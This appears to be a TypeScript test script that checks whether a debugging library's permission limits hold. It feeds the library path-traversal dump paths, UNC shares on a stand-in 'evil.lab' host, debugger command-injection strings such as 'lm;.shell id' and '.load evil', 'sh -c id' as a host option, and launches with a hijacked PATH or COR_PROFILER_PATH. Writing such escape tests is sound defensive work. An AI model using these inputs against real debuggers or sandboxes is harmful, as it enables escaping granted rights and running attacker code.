/**
 * Has some rights, and tries to get more out of them. `tricks.ts NAME FOLDER PROGRAM`: beside FOLDER, which ends in `dumps`, and PROGRAM,
 * which ends in `app.exe`, there are others that differ only in case.
 */
import { attach, DebugSession, type LaunchOptions, type Program, startProcessServer } from "@latch/latch";
import { deed } from "./deed.ts";
const [name = "", folder = "", path = ""] = Deno.args;

async function dumps(program: Program): Promise<void> {
  const dump = (to: string) => async () => await program.writeDump(to);
  await deed("dump granted", dump(`${folder}\\good.dmp`));
  await deed("dump ..", dump(`${folder}\\..\\evil.dmp`));
  await deed("dump deep ..", dump(`${folder}\\a\\..\\..\\evil.dmp`));
  await deed("dump /", dump(`${folder}/../evil.dmp`));
  await deed("dump elsewhere", dump("C:\\evil.dmp"));
  await deed("dump prefix", dump(`${folder}2\\evil.dmp`));
  await deed("dump link", dump(`${folder}\\link\\evil.dmp`));
  await deed("dump other case", dump(folder.replace(/dumps$/, "DUMPS\\evil.dmp")));
  await deed("dump mixed case", dump(folder.replace(/dumps$/, "Dumps\\evil.dmp")));
  await deed("dump long s", dump(folder.replace(/dumps$/, "dump\u017f\\evil.dmp")));
  await deed("dump link in other case", dump(`${folder}\\LINK\\evil.dmp`));
  await deed("dump short name", dump(`${folder}\\Long~NYX\\evil.dmp`));
  await deed("dump denied file", dump(`${folder}\\denied.dmp`));
  await deed("dump denied file in other case", dump(`${folder}\\DENIED.dmp`));
  await deed("dump UNC", dump("\\\\evil.lab\\share\\x.dmp"));
  await deed("dump unix UNC", dump(`\\\\?\\unix\\tmp\\evil.dmp`));
  await deed("dump device path", dump(`\\\\.\\${folder}\\x.dmp`));
  await deed("dump device", dump(`${folder}\\con`));
  await deed("dump device with extension", dump(`${folder}\\nul.dmp`));
  await deed("dump stream", dump(`${folder}\\good.dmp:evil`));
  await deed("dump drive-relative", dump("C:evil.dmp"));
  await deed("dump rooted", dump("\\evil.dmp"));
  await deed("dump dot", dump(`${folder}\\x.dmp.`));
  await deed("dump zero", dump(`${folder}\\x.dmp\0.txt`));
}

async function commands(program: Program): Promise<void> {
  const command = (text: string) => async () => await program.execute(text);
  await deed("execute granted", command("lm"));
  await deed("execute other", command(".shell id"));
  for (
    const text of [
      ...["lm;.shell id", "lm\n.shell id", "lm\r.shell id", 'lm ".shell id"', "lm $$<C:\\x", "lm ${x}", "lm $<C:\\x"],
      ...["lm @@c++(x=1)", "lm | .kill", "lm > C:\\x", "lm `x`", "lm { .kill }", "lm = 1", "lmx", ".kill", "q", "qd"],
      ...[
        "~*e .kill",
        "~ * e .kill",
        "j 1 .kill",
        "j (1) '.kill'",
        "z(1)",
        "as x .kill",
        "bp 1 .kill",
        ".if (1) {.kill}",
      ],
      ...[".sympath srv*", ".sympath+ C:\\", "lm m %PATH%", "lm %OS%%OS%"],
      ...[".foreach (x {lm}) {.kill}", "!list .kill", ".load evil", ".detach", ".restart", ".create evil", ".attach 1"],
    ]
  ) await deed(`execute ${JSON.stringify(text)}`, command(text));
  for (const text of ["@@c++(@$t0=1)", "@@(x)", "$$<C:\\x", "1;.kill", "@$t0=1", '"x"', "{1}"]) {
    await deed(`evaluate ${JSON.stringify(text)}`, async () => await program.evaluate(text));
  }
}

/** Symbol paths that name no place, and those that the engine would put something into. */
async function symbols(): Promise<void> {
  const parent = folder.replace(/\\dumps$/, "");
  /** Whether the target's symbols are found, and what the engine would take of its own. */
  const found = (symbolPath: string) => async () => {
    await using program = await attach(name, { symbolPath });
    const told = (await program.execute(".sympath")).toLowerCase();
    if (/srv\*|cache\*/.test(told)) return "the engine's own";
    return await program.addressOf(`${name.replace(/\.exe$/, "").replaceAll("-", "_")}!main`) === null
      ? "none"
      : "found";
  };
  for (const symbolPath of ["", ";", " ", " ; "]) await deed(`symbols "${symbolPath}"`, found(symbolPath));
  await deed("symbols granted", found(`${parent}\\pdb`));
  await deed("symbols granted, in other case", found(`${parent}\\SYM`)); // the engine looks in sym, where there are none
  await deed("symbols other", found(`${parent}\\dumps`));
  await deed("symbols link", found(`${parent}\\pdb\\link`));
  for (
    const symbolPath of [
      ...[
        "srv*",
        "SRV *",
        "srv**",
        "symsrv*symsrv.dll*",
        "cache*",
        "cache**",
        "srv*https://sym.lab/x",
        "https://sym.lab/x",
      ],
      ...["srv**https://sym.lab/x", `srv*${parent}\\pdb`, `${parent}\\pdb;srv*`, "%TEMP%", `${parent}\\pdb\\%PATH%`],
      ...["%OS%;srv*", "x*", `${parent}\\pdb*`, `cache*${parent}\\pdb*`, `symsrv*evil.dll*${parent}\\pdb`, "srv"],
    ]
  ) await deed(`symbols ${JSON.stringify(symbolPath.replace(parent, "F"))}`, found(symbolPath));
}

async function missing(program: Program): Promise<void> {
  const [module] = await program.modules();
  const [thread] = await program.threads();
  await deed("read", async () => await program.memory.read(module?.base ?? 0n, 2));
  await deed("write", async () => await program.memory.write(module?.base ?? 0n, new Uint8Array([0x4d])));
  await deed("registers", async () => await thread?.registers());
  await deed("terminate", async () => await program.terminate());
}

await deed("host option", async () => await attach(name, { host: ["sh", "-c", "id"] }));
await deed("engine option", async () => await attach(name, { engine: "Z:\\tmp" }));
await deed("symbolPath option", async () => await attach(name, { symbolPath: "\\\\evil.lab\\x" }));
await deed("process server", () => startProcessServer("tcp:port=5005"));
await symbols();
const session = new DebugSession();
const program = await session.attach(name);
await dumps(program);
await commands(program);
await missing(program);
const started = (command: string | readonly string[], options: LaunchOptions = {}) => async () => {
  await using launched = await session.launch(command, options);
  return launched.name;
};
await deed("launch cmd", started(["cmd.exe", "/c", "echo"]));
await deed("launch full cmd", started(["C:\\windows\\system32\\cmd.exe", "/c", "echo"]));
await deed("launch unquoted", started(`${path} x`.replace("\\tmp\\", "\\tmp \\")));
await deed("launch quote", started(`"${path}" "`));
await deed("launch by name alone", started([path.split("\\").at(-1) ?? ""]));
await deed("launch ..", started([`${path}\\..\\other.exe`]));
await deed("launch other case", started([path.replace(/app\.exe$/, "APP.exe")]));
await deed("launch mixed case", started([path.replace(/app\.exe$/, "App.exe")]));
await deed("launch short name", started([path.replace(/app\.exe$/, "ALIA~ABC.EXE")]));
await deed("launch alias", started([path.replace(/app\.exe$/, "alias.exe")]));
await deed("launch UNC", started(["\\\\evil.lab\\share\\beat.exe"]));
await deed("launch batch", started([path.replace(/exe$/, "bat")]));
await deed("launch with PATH", started([path], { environment: { PATH: "\\\\evil.lab\\share" } }));
await deed("launch with profiler", started([path], { environment: { COR_PROFILER_PATH: "\\\\evil.lab\\x.dll" } }));
await deed("launch in a share", started([path], { directory: "\\\\evil.lab\\share" }));
await deed("launch with a forged variable", started([path], { environment: { "A": "1\nPATH=x" } }));
await session[Symbol.asyncDispose]();
await deed("an import of Latch under another name", async () => {
  const { DebugSession: Other } = await import("../../../mod.ts");
  await using other = new Other();
  return (await other.processes()).map((process) => process.name).filter((other) => other !== name).length;
});
console.log("end");
